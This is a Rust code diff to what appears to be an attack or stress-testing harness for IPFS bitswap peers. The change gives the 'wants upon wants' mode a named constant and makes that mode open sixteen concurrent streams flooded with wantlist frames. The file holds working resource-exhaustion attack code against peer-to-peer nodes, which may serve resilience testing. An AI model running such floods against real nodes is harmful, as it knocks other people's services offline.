@@ -23,7 +23,9 @@ use crate::file;
 /// By which answers come.
 pub const PROTOCOLS: [&str; 2] = ["/ipfs/bitswap/1.2.0", "/ipfs/bitswap/1.1.0"];
 
-/// Streams of who has others wait for something that does not come.
+/// The way of attack that leaves the most unread.
+pub const WANTLISTS_UPON_WANTLISTS: u8 = 4;
+/// Streams of who has others wait for something that does not come, or has them read more than they can.
 const STREAMS: usize = 16;
 /// The length of a message, and nothing of it.
 const LENGTH: [u8; 4] = [0x80, 0x80, 0x80, 0x02];
@@ -87,7 +89,7 @@ pub async fn fetch(source: &Source, root: Cid) -> u64 {
 pub async fn attack(way: u8, attacker: &Host, source: &Source) {
     let protocol = StreamProtocol::new(PROTOCOLS[0]);
     if attacker.connect(source.addresses.clone()).await.is_ok() {
-        let count = if matches!(way % 8, 1 | 2) { STREAMS } else { 1 };
+        let count = if matches!(way % 8, 1 | 2 | WANTLISTS_UPON_WANTLISTS) { STREAMS } else { 1 };
         let streams = (0..count).map(|_| async {
             let opened = open(attacker.control(), source.peer, &protocol, Duration::from_secs(10)).await;
             if let Ok(Ok(mut stream)) = opened {
@@ -126,7 +128,7 @@ async fn attack_on(way: u8, stream: &mut Stream) -> Option<()> {
                 return None;
             }
             // Wants upon wants.
-            4 => write_frame(stream, &WANTLISTS[round % WANTLISTS.len()]).await.ok()?,
+            WANTLISTS_UPON_WANTLISTS => write_frame(stream, &WANTLISTS[round % WANTLISTS.len()]).await.ok()?,
             // What is there, which is sent and not read.
             5 => {
                 write_frame(stream, &THERE).await.ok()?;
